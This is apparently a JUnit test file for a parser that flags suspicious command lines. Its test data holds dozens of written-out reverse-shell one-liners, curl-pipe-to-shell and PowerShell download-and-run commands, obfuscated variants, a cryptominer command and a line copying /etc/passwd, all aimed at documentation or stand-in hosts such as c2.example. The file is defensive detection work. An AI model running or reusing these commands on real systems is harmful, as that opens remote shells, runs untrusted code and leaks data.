package io.tallyman.event;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandLineTest {

    @ParameterizedTest
    @CsvSource(
            delimiterString = " => ",
            quoteCharacter = '~',
            value = {
                "/usr/bin/curl -s http://a.example => curl",
                "C:\\Windows\\System32\\cmd.exe /c \"curl.exe http://a.example & whoami\" => cmd curl whoami",
                "sh -c 'cd /tmp && wget http://a.example/x; chmod +x x' => sh wget chmod",
                "sudo -u nobody env -i A=b nohup setsid timeout -k 1 5 busybox wget x => wget",
                "X=1 Y=2 nice -n 5 xmrig -o pool.example:3333 => xmrig",
                "bash -lc \"echo $(hostname) `id -u`\" => bash hostname id echo",
                "sh -c 'if which curl; then curl x; else wget x; fi' => sh which curl wget",
                "sh -c '(curl x || wget x) & { python3 -V; }' => sh curl wget python3",
                "find . => find",
                "sh -c 'c\\url x; w'g'et y; \"na\"\"no\" z' => sh curl wget nano",
                "sh -c \"c'u'rl x; w\\\\get y\" => sh curl wget",
                "sh -c 'echo a | xargs -n 1 -I{} curl {}' => sh echo curl",
                "sh -c 'f=curl; $f http://a.example' => sh curl",
                "sh -c 'curl${IFS}http://a.example' => sh curl",
                "busybox => busybox",
                "su - app -c 'curl x' => su curl",
                "eval 'curl x' => curl",
                "sh -c 'for i in 1 2; do curl $i; done' => sh curl",
                "sh -c 'f() { curl x; }; f' => sh curl f",
            })
    void allProgramsAreNamed(String line, String programs) {
        assertThat(typed(line).programs()).containsAll(List.of(programs.split(" ")));
    }

    @Test
    void theExecutableCountsBesideTheNameItIsCalledBy() {
        assertThat(CommandLine.of("/usr/bin/curl", List.of("[kworker/0:1]", "http://a.example"))
                        .programs())
                .contains("curl");
        assertThat(CommandLine.of("/bin/busybox", List.of("/bin/sh", "-c", "wget a"))
                        .programs())
                .containsExactlyInAnyOrder("sh", "wget");
        assertThat(CommandLine.of("/bin/sh", List.of()).programs()).containsExactly("sh");
        assertThat(CommandLine.of("", List.of()).programs()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = " => ",
            quoteCharacter = '~',
            value = {
                "curl -fsSL https://get.example.com/install.sh => get.example.com:0",
                "curl -o /tmp/x 203.0.113.7/x => 203.0.113.7:0",
                "curl --max-time 5 -H 'Host: a.example' -x proxy.example:8080 b.example:81/p => b.example:81 proxy.example:8080",
                "curl http://user:p@ss@evil.example:8443/?u=http://b.example => evil.example:8443 b.example:0",
                "curl http://good.example#@evil.example/ => good.example:0",
                "curl http://[2001:DB8:0:0::1]:8080/x => 2001:db8::1:8080",
                "curl http://[::ffff:203.0.113.9]/ => 203.0.113.9:0",
                "curl http://3405803786/ => 203.0.113.10:0",
                "curl http://0xcb.0x00.0x71.0x0a/ => 203.0.113.10:0",
                "curl http://0313.0.0161.012/ => 203.0.113.10:0",
                "curl http://203.113/ => 203.0.0.113:0",
                "curl http://%65vil.ex%61mple/ => evil.example:0",
                "curl HTTP://EVIL.Example./ => evil.example:0",
                "curl http://evil.example:99999/ => ",
                "curl http://localhost:8080 http://127.0.0.1/ http://127.1 http://[::1]/ http://0.0.0.0/ http://2130706433/ => ",
                "curl --unix-socket /var/run/docker.sock http://localhost/v1 => ",
                "wget -qO- evil.example/x.sh => evil.example:0",
                "wget -T 20 --tries 3 http://203.0.113.7/x -O /tmp/x => 203.0.113.7:0",
                "sh -c \"curl 'http://ev'il.exam\\\\ple/\" => evil.example:0",
                "bash -c 'bash -i >& /dev/tcp/203.0.113.8/4444 0>&1' => 203.0.113.8:4444",
                "bash -c 'exec 3<>/dev/udp/c2.example/53' => c2.example:53",
                "nc -w 5 -e /bin/sh c2.example 4444 => c2.example:4444",
                "nc -lvnp 4444 => ",
                "telnet 203.0.113.8 25 => 203.0.113.8:25",
                "socat EXEC:'bash -li',pty TCP:203.0.113.8:4444 => 203.0.113.8:4444",
                "socat TCP-LISTEN:80,fork TCP4:10.0.0.5:8080 => 10.0.0.5:8080",
                "ssh -i key -p 2222 root@c2.example uptime => c2.example:2222",
                "scp /etc/passwd bob@203.0.113.8:/tmp => 203.0.113.8:0",
                "rsync -av src/ backup.example:/data => backup.example:0",
                "xmrig -o pool.example:3333 -u wallet -p x => pool.example:3333",
                "xmrig --url=stratum+ssl://pool.example:443 => pool.example:443",
                "miner -P stratum1+tcp://0xwallet.rig@pool.example:4444 => pool.example:4444",
                "miner --url=pool:3333 => pool:3333",
                "python3 -c \"import urllib.request as u; u.urlopen('http://a.example:81/x')\" => a.example:81",
                "sh -c 'U=http://a.example; curl $U/x' => a.example:0",
                "redis-cli -h 10.1.2.3 => 10.1.2.3:0",
                "python app.py 12:30 v1.2.3 file.py:12 -Dx=a:b => ",
                "docker run registry.example:5000/app => ",
                "ls -la /tmp => ",
                "cat file:///etc/passwd => ",
                "masscan 203.0.113.0/24 -p2375 --rate 50000 => 203.0.113.0:0",
                "masscan 0.0.0.0/0 -p2375 => 1.0.0.0:0",
                "nmap -p 2375 198.51.100.7-40 => 198.51.100.7:0",
            })
    void destinationsAreNamed(String line, String destinations) {
        var expected = destinations == null ? List.of() : List.of(destinations.split(" "));
        assertThat(typed(line).destinations())
                .extracting(
                        to -> (to.address().isEmpty() ? to.names().iterator().next() : to.address()) + ":" + to.port())
                .containsExactlyInAnyOrderElementsOf(
                        expected.stream().map(Object::toString).toList());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -fsSL http://a.example | sh",
                "curl http://a.example | sudo -E bash -s -- --yes",
                "wget -qO- http://a.example | tee /tmp/x | bash -x",
                "(curl -s a.example || wget -qO- a.example) | bash",
                "{ curl -s a.example; } | sh",
                "bash <(curl -s http://a.example)",
                "source <(curl -s http://a.example)",
                ". <(wget -qO- http://a.example)",
                "bash -c \"$(curl -fsSL http://a.example)\"",
                "sh -c \"`wget -qO- http://a.example`\"",
                "python3 -c \"$(curl -s http://a.example)\"",
                "eval $(curl -s http://a.example)",
                "eval \"$(echo Y3VybCBh | base64 -d)\"",
                "echo Y3VybCBh | base64 --decode | sh",
                "echo 6375726c | xxd -r -p | bash",
                "openssl enc -d -aes-256-cbc -in x | sh",
                "gzip -dc x.gz | sh",
                "bash <<< \"$(curl -s a.example)\"",
                "bash < <(curl -s a.example)",
                "$(curl -s a.example)",
                "x=$(curl -s a.example); eval \"$x\"",
                "nc 203.0.113.8 4444 | sh",
                "curl a.example | python3 -",
                "curl a.example | perl",
                "curl a.example | xargs -0 sh -c",
                "curl a.example | env -i sh &",
                "cat </dev/tcp/203.0.113.8/80 | sh",
                "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://a.example').read())\"",
                "perl -MMIME::Base64 -e 'eval(decode_base64(\"cHJpbnQ\"))'",
                "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example')\"",
                "powershell iwr http://a.example -UseBasicParsing ^| iex",
            })
    void outputRunAsAProgramIsFound(String line) {
        assertThat(typed(line).pipesIntoInterpreter()).isTrue();
        assertThat(CommandLine.of("/bin/sh", List.of("sh", "-c", line)).pipesIntoInterpreter())
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl http://a.example | python3 -m json.tool",
                "curl http://a.example | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
                "curl http://a.example | perl -ne 'print'",
                "curl http://a.example | jq .",
                "curl http://a.example | sh -c 'cat > /tmp/x'",
                "curl http://a.example | bash script.sh",
                "curl http://a.example; sh",
                "curl http://a.example || sh",
                "sh; curl http://a.example | cat",
                "echo hello | base64 | sh",
                "x=$(curl -s a.example); echo $x",
                "bash -c 'echo $(curl -s a.example)'",
                "cat script | sh",
                "echo 'curl a.example | sh'",
                "curl -d 'x | sh' http://a.example",
                "# curl a.example | sh",
                "powershell -c \"Get-Process | Sort-Object\"",
                "gunzip x.gz",
            })
    void otherPipesAreNot(String line) {
        assertThat(typed(line).pipesIntoInterpreter()).isFalse();
    }

    @Test
    void anEncodedPowerShellCommandIsDecoded() {
        var script = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example:8080/a')";
        var encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        for (var option : List.of("-EncodedCommand", "-enc", "-e", "-ec")) {
            var command = CommandLine.of("powershell.exe", List.of("powershell.exe", "-NoP", option, encoded));
            assertThat(command.pipesIntoInterpreter()).isTrue();
            assertThat(command.destinations()).containsExactly(new Destination("", 8080, Set.of("c2.example")));
        }
    }

    @Test
    void powerShellsDisguisesAreTakenOff() {
        var command = CommandLine.of(
                "",
                List.of(
                        "pwsh",
                        "-Command",
                        "I`EX((New-Object Ne't.Web'+'Client).Down`loadString('http://a'+'.example'))"));
        assertThat(command.pipesIntoInterpreter()).isTrue();
        assertThat(command.destinations()).containsExactly(new Destination("", 0, Set.of("a.example")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "bash -i >& /dev/tcp/203.0.113.8/4444 0>&1",
                "bash -c 'bash -i &> /dev/tcp/203.0.113.8/4444 <&1'",
                "0<&196;exec 196<>/dev/tcp/203.0.113.8/4444; sh <&196 >&196 2>&196",
                "exec 5<>/dev/tcp/203.0.113.8/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
                "nc -e /bin/sh 203.0.113.8 4444",
                "busybox nc 203.0.113.8 4444 -e sh",
                "ncat --exec /bin/bash 203.0.113.8 4444",
                "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.8 4444 >/tmp/f",
                "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.8:4444 > /tmp/s",
                "socat exec:'bash -li',pty,stderr tcp:203.0.113.8:4444",
                "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.8\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
                "perl -e 'use Socket;$i=\"203.0.113.8\";socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
                "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.8\",1);exec(\"/bin/sh\")'",
                "php -r '$s=fsockopen(\"203.0.113.8\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
                "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.8/1\"; while ((s |& getline c) > 0) system(c)}'",
            })
    void aShellOnTheNetworkIsFound(String line) {
        assertThat(typed(line).opensReverseShell()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "bash -i",
                "nc -z 203.0.113.8 4444",
                "nc -lvp 4444",
                "cat < /dev/tcp/203.0.113.8/13",
                "socat TCP-LISTEN:80,fork TCP:10.0.0.5:80",
                "python -c 'import socket; print(socket.gethostname())'",
                "sh -c 'curl a.example 2>&1 >&2'",
                "sh script.sh | nc 203.0.113.8 4444",
            })
    void otherUsesOfTheNetworkAreNoShell(String line) {
        assertThat(typed(line).opensReverseShell()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "wget -O /tmp/x http://a.example/y; chmod +x /tmp/x; /tmp/x",
                "cd /tmp && curl -O http://a.example/m.sh && sh m.sh",
                "wget http://a.example/m.sh?x=1 && bash ./m.sh",
                "curl -sLo kdev a.example/kdev; chmod 777 kdev; nohup ./kdev &",
                "wget -qO /dev/shm/x http://a.example/x; python3 /dev/shm/x",
                "curl http://a.example/x > /tmp/.x; . /tmp/.x",
                "curl http://a.example/x | base64 -d | tee y; sh y",
                "echo f0VMRg | base64 -d > /tmp/e && chmod +x /tmp/e && /tmp/e",
                "wget http://a.example/x; mv x /usr/bin/y; /usr/bin/y",
                "curl -s http://a.example/x.tar.gz | tar xz; ./xmrig",
                "wget http://a.example/x.tar.gz && tar xf x.tar.gz && cd x && ./configure",
                "wget http://a.example/x.jar && java -jar x.jar",
                "cmd /c certutil -urlcache -f http://a.example/x.exe C:\\t\\x.exe & C:\\t\\x.exe",
                "powershell (New-Object Net.WebClient).DownloadFile('http://a.example/x','x.exe'); Start-Process x.exe",
            })
    void aDownloadThatIsRunIsFound(String line) {
        assertThat(CommandLine.of("", List.of("sh", "-c", line)).downloadsAndExecutes()
                        || typed(line).downloadsAndExecutes())
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "wget -O /tmp/x http://a.example/y",
                "sh m.sh; wget http://a.example/m.sh",
                "curl -fsS http://a.example/health; ./run.sh",
                "curl -o /tmp/x a.example/x; cat /tmp/x",
                "curl a.example/x > /dev/null; sh y",
                "chmod +x x; ./x",
            })
    void aDownloadThatIsNotRunIsNot(String line) {
        assertThat(typed(line).downloadsAndExecutes()).isFalse();
    }

    @Test
    void hostileInputIsReadInLinearTime() {
        var hostile = List.of(
                "$(".repeat(40_000),
                "\"$(`".repeat(20_000),
                "a=1;b=$a$a;c=$b$b;".repeat(4_000),
                "((((".repeat(16_000),
                "{ ".repeat(30_000),
                "http://".repeat(10_000),
                "/dev/tcp/".repeat(8_000),
                "sh -c 'sh -c ".repeat(5_000),
                "x|".repeat(30_000),
                "1".repeat(70_000) + " " + "1>".repeat(30_000),
                "curl -" + "o".repeat(60_000),
                "\u0001\u0002\f<(&>".repeat(10_000),
                "eval ".repeat(13_000),
                "a.".repeat(32_000) + ":1",
                "[:".repeat(32_000),
                "<".repeat(65_000),
                "'",
                "\\",
                "$'\\x",
                "${");
        Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(20),
                () -> hostile.forEach(text -> {
                    everything(CommandLine.of(text));
                    everything(CommandLine.of("/bin/sh", List.of("sh", "-c", text)));
                    everything(CommandLine.of("/bin/curl", List.of("curl", text, "-o", text)));
                    everything(CommandLine.of("", List.of("powershell", "-c", text)));
                    everything(CommandLine.of("", List.of("cmd", "/c", text)));
                }));
    }

    @Test
    void whatStandsBeyondTheBoundIsNotRead() {
        var long64 = "a".repeat(70_000);
        assertThat(CommandLine.of("", List.of("echo", long64, "http://a.example"))
                        .destinations())
                .isEmpty();
        assertThat(CommandLine.of("", List.of("echo", "http://a.example", long64))
                        .destinations())
                .hasSize(1);
    }

    private static void everything(CommandLine command) {
        assertThat(command.programs()).isNotNull();
        assertThat(command.destinations()).isNotNull();
        command.pipesIntoInterpreter();
        command.opensReverseShell();
        command.downloadsAndExecutes();
    }

    private static CommandLine typed(String line) {
        return CommandLine.of(line.contains(" ") ? line : line + " ");
    }
}
